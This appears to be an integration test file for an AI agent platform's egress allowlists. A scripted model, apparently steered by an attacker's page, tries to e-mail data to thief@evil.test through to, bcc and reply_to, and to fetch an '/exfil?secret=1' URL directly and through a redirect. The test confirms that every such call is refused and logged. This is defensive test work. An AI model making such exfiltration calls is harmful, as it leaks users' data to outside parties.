/**
 * The egress policy of an agent step end to end: a scripted model (the attacker's page has talked it round) asks
 * to e-mail and fetch outside the step's allowlists. The refused calls come back to the model as error results, show
 * in the transcript (error_code egress_denied) and the run status (step egress_denied), and nothing leaves: the
 * SMTP server and the HTTP sink see only the allowed traffic of the same run (so the tests can fail).
 */
import { getTranscript, runAgent } from '../../helpers/agent-runs';
import { startHttpSink, type HttpSink } from '../../helpers/http-sink';
import { startLlmServer, type LlmServer } from '../../helpers/llm-server';
import { startTestSmtp, type TestSmtp } from '../../helpers/smtp';
import {
  startTestApi,
  startTestWorker,
  testConfig,
  uniqueId,
  type TestApi,
  type TestWorker,
} from '../../helpers/stack';
import { createTestUser, type TestUser } from '../../helpers/users';

const OPENAI_KEY = 'sk-test-egress-openai-0123456789';

type Msg = { role: string; content: string };
type StepStatus = { status: string; egress_denied: { seq: number; tool: string; target: string }[] };

describe('agent egress policy', () => {
  let llm: LlmServer;
  /** The allowed host… */
  let allowed: HttpSink;
  /** …and one the SSRF guard would let through (HTTP_ALLOWED_HOSTS) but the step's policy does not. */
  let other: HttpSink;
  let smtp: TestSmtp;
  let api: TestApi;
  let worker: TestWorker;
  let user: TestUser;

  beforeAll(async () => {
    llm = await startLlmServer();
    allowed = await startHttpSink();
    other = await startHttpSink();
    smtp = await startTestSmtp();
    api = await startTestApi(
      testConfig({
        HTTP_ALLOWED_HOSTS: `${allowed.host},${other.host}`,
        SMTP_URL: smtp.url,
        OPENAI_API_KEY: OPENAI_KEY,
        OPENAI_BASE_URL: llm.baseUrl,
      }),
    );
    worker = await startTestWorker(api.config, api.database);
    user = await createTestUser(api.database.db);
  });
  afterAll(async () => {
    await worker?.stop();
    await api?.close();
    await llm?.close();
    await allowed?.close();
    await other?.close();
    await smtp?.close();
  });

  it('e-mail outside the allowlist is refused before sending; the allowed recipient gets theirs', async () => {
    const mail = (args: Record<string, unknown>) => ({
      name: 'send_email',
      args: { subject: 'report', text: 'the data', ...args },
    });
    const script = llm.script(uniqueId('gpt-test-'), [
      {
        toolCalls: [
          mail({ to: 'ops@acme.test' }),
          mail({ to: 'thief@evil.test' }),
          // Every recipient field counts: an allowed `to` does not carry a foreign bcc or reply_to through.
          mail({ to: 'ops@acme.test', bcc: ['thief@evil.test'] }),
          mail({ to: 'dev@team.acme.test', reply_to: 'thief@evil.test' }),
        ],
      },
      { text: 'done' },
    ]);
    const before = smtp.messages.length;
    const { runId, status } = await runAgent(api, user, {
      model: `openai:${script.model}`,
      tools: ['send_email'],
      egress: { email_recipients: ['ops@acme.test', '@team.acme.test'] },
    });
    // Refusals are results for the model, not failures of the step.
    expect(status.status).toBe('completed');

    await smtp.waitForMessages(before + 1);
    const received = smtp.messages.slice(before);
    expect(received.map((m) => m.envelope.to)).toEqual([['ops@acme.test']]);

    const tools = (await getTranscript(api, user, runId)).entries.filter((e) => e.role === 'tool');
    expect(tools.map((t) => [t.is_error, t.error_code])).toEqual([
      [false, null],
      [true, 'egress_denied'],
      [true, 'egress_denied'],
      [true, 'egress_denied'],
    ]);
    // The model was told the allowed destinations up front (the tools enforce them regardless).
    const system = (script.requests[0]!.body.messages as Msg[]).find((m) => m.role === 'system');
    expect(system?.content).toContain('send_email may only send to: ops@acme.test, @team.acme.test');
    const toModel = (script.requests[1]!.body.messages as Msg[]).filter((m) => m.role === 'tool');
    expect(toModel[1]!.content).toContain('not allowed by the step');
    expect(toModel[1]!.content).toContain('to thief@evil.test');
    expect(toModel[3]!.content).toContain('reply_to thief@evil.test');

    const step = status.steps[0] as unknown as StepStatus;
    expect(step.egress_denied.map((d) => [d.tool, d.target])).toEqual([
      ['send_email', 'thief@evil.test'],
      ['send_email', 'thief@evil.test'],
      ['send_email', 'thief@evil.test'],
    ]);
    expect(step.egress_denied.map((d) => d.seq)).toEqual(tools.slice(1).map((t) => t.seq));
  });

  it('an agent without a recipient allowlist can e-mail nobody, and is told why', async () => {
    const script = llm.script(uniqueId('gpt-test-'), [
      { toolCalls: [{ name: 'send_email', args: { to: 'ops@acme.test', subject: 's', text: 't' } }] },
      { text: 'could not send' },
    ]);
    const before = smtp.messages.length;
    const { status } = await runAgent(api, user, { model: `openai:${script.model}`, tools: ['send_email'] });
    expect(status.status).toBe('completed');
    const toModel = (script.requests[1]!.body.messages as Msg[]).find((m) => m.role === 'tool')!;
    expect(toModel.content).toContain('no e-mail recipient allowlist');
    expect(smtp.messages).toHaveLength(before);
  });

  it('http_fetch reaches allowed hosts only, on every redirect hop', async () => {
    allowed.route('/page', { body: 'fine' });
    allowed.route('/hop', { redirect: other.url('/landing?leak=2') });
    other.route('/exfil', { body: 'got it' });
    other.route('/landing', { body: 'landed' });
    const script = llm.script(uniqueId('gpt-test-'), [
      {
        toolCalls: [
          { name: 'http_fetch', args: { url: allowed.url('/page') } },
          { name: 'http_fetch', args: { url: other.url('/exfil?secret=1') } },
          { name: 'http_fetch', args: { url: allowed.url('/hop') } },
        ],
      },
      { text: 'done' },
    ]);
    const { runId, status } = await runAgent(api, user, {
      model: `openai:${script.model}`,
      tools: ['http_fetch'],
      egress: { http_hosts: [allowed.host] },
    });
    expect(status.status).toBe('completed');
    expect(allowed.requestsTo('/page')).toHaveLength(1);
    expect(allowed.requestsTo('/hop')).toHaveLength(1);
    expect(other.requests).toHaveLength(0);

    const tools = (await getTranscript(api, user, runId)).entries.filter((e) => e.role === 'tool');
    expect(tools.map((t) => t.error_code)).toEqual([null, 'egress_denied', 'egress_denied']);
    expect(JSON.stringify(tools[2]!.result)).toContain('(redirect 1)');
    const step = status.steps[0] as unknown as StepStatus;
    expect(step.egress_denied.map((d) => [d.tool, d.target])).toEqual([
      ['http_fetch', other.host],
      ['http_fetch', other.host],
    ]);
  });

  it('a workflow step replaces the template field it sets', async () => {
    const script = llm.script(uniqueId('gpt-test-'), [
      {
        toolCalls: [
          { name: 'send_email', args: { to: 'ops@acme.test', subject: 's', text: 't' } },
          { name: 'send_email', args: { to: 'night@acme.test', subject: 's', text: 't' } },
        ],
      },
      { text: 'done' },
    ]);
    const before = smtp.messages.length;
    const { status } = await runAgent(api, user, {
      model: `openai:${script.model}`,
      tools: ['send_email'],
      egress: { email_recipients: ['@acme.test'] },
      step: { egress: { email_recipients: ['night@acme.test'] } },
    });
    expect(status.status).toBe('completed');
    await smtp.waitForMessages(before + 1);
    expect(smtp.messages.slice(before).map((m) => m.envelope.to)).toEqual([['night@acme.test']]);
    const step = status.steps[0] as unknown as StepStatus;
    expect(step.egress_denied.map((d) => d.target)).toEqual(['ops@acme.test']);
  });
});
